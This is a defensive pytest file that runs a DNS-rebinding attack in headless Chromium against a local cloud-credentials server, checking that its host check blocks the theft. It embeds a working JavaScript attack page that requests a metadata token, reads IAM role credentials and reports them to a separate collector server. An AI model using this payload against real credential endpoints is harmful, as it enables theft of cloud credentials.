"""DNS rebinding against ``serve`` with a real browser (headless Chromium) on the same host (issue 21).

The attack as it happens: a page is loaded from ``http://rebind.test:<port>/`` (the attacker's server on
that port), then the name points at 127.0.0.1 and the attacker's server is gone, so the page's
same-origin requests reach ``serve`` on the same port. Chromium resolves ``rebind.test`` to 127.0.0.1
(``--host-resolver-rules``); the page is first served by a stand-in that then stops, and ``serve`` takes
its port. The page reports what it got to a collector on another port.

First without the defence (the check switched off): the browser really does get the credentials, so
the attack is real. Then with it: 403, nothing leaks.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlparse

import pytest

from roles_anywhere.credentials import serve

from .test_serve_hardening import ROLE, Served

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(
    CHROMIUM is None and os.environ.get("CI") != "true",
    reason="no Chromium here (.ci/run installs Debian's chromium; under CI its absence fails)",
)

ATTACK_PAGE = """<!doctype html><script>
const report = (what) => fetch(
  "http://127.0.0.1:COLLECTOR/report?r=" + encodeURIComponent(JSON.stringify(what)), {mode: "no-cors"});
async function attempt() {
  let answer;
  try {
    answer = await fetch("/latest/api/token", {method: "PUT",
                         headers: {"X-aws-ec2-metadata-token-ttl-seconds": "60"}});
  } catch (e) { return setTimeout(attempt, 100); }   // between the two servers
  if (answer.status === 418) return setTimeout(attempt, 100);  // still the attacker's server
  const token = await answer.text();
  if (answer.status !== 200) return report({step: "token", status: answer.status, body: token});
  const role = await (await fetch("/latest/meta-data/iam/security-credentials/",
                                  {headers: {"X-aws-ec2-metadata-token": token}})).text();
  const creds = await fetch("/latest/meta-data/iam/security-credentials/" + role,
                            {headers: {"X-aws-ec2-metadata-token": token}});
  report({step: "credentials", status: creds.status, body: await creds.text()});
}
attempt();
</script>"""


class Collector:
    """Receives the page's report."""

    def __init__(self) -> None:
        self.reports: list[dict[str, Any]] = []
        reports = self.reports

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                return

            def do_GET(self) -> None:
                query = parse_qs(urlparse(self.path).query)
                if "r" in query:
                    reports.append(json.loads(query["r"][0]))
                self.send_response(204)
                self.end_headers()

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def wait(self, timeout: float = 30) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while not self.reports:
            assert time.monotonic() < deadline, "the page reported nothing"
            time.sleep(0.05)
        return self.reports[0]


def attacker_server(port: int, page: str) -> HTTPServer:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            return

        def do_GET(self) -> None:
            self.server.asked = True  # type: ignore[attr-defined]
            body = page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(body)

        def do_PUT(self) -> None:
            self.send_response(418)
            self.send_header("Content-Length", "0")
            self.send_header("Connection", "close")
            self.end_headers()

    server = HTTPServer(("127.0.0.1", port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture
def browser_attack(tmp_path: Path) -> Iterator[Any]:
    started: list[Any] = []

    def run() -> dict[str, Any]:
        assert CHROMIUM is not None, "Chromium is missing (CI installs Debian's chromium)"
        collector = Collector()
        port = free_port()
        attacker = attacker_server(port, ATTACK_PAGE.replace("COLLECTOR", str(collector.port)))
        profile = tmp_path / f"chromium-{len(started)}"
        browser = subprocess.Popen(
            [
                CHROMIUM,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                f"--user-data-dir={profile}",
                "--host-resolver-rules=MAP rebind.test 127.0.0.1",
                f"http://rebind.test:{port}/",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        started.append(browser)
        deadline = time.monotonic() + 30
        while not attacker_was_asked(attacker):
            assert time.monotonic() < deadline, "Chromium never loaded the page"
            time.sleep(0.05)
        attacker.shutdown()
        attacker.server_close()  # the name now leads to serve, on the same port
        started.append(Served(tmp_path, port=port))
        return collector.wait()

    yield run
    for item in started:
        if isinstance(item, subprocess.Popen):
            item.kill()
            item.wait(30)
        else:
            item.close()


def attacker_was_asked(server: HTTPServer) -> bool:
    return bool(getattr(server, "asked", False))


def test_without_the_host_check_a_browser_would_get_the_credentials(
    browser_attack: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(serve, "browser_or_rebound", lambda headers, port: None)
    report = browser_attack()
    assert report["step"] == "credentials"
    assert report["status"] == 200
    assert json.loads(report["body"])["AccessKeyId"].startswith("AKIA")


def test_a_rebound_page_in_a_real_browser_gets_nothing(browser_attack: Any) -> None:
    report = browser_attack()
    assert report == {
        "step": "token",
        "status": 403,
        "body": "forbidden: Host is not this endpoint's local address",
    }
    assert ROLE not in json.dumps(report)
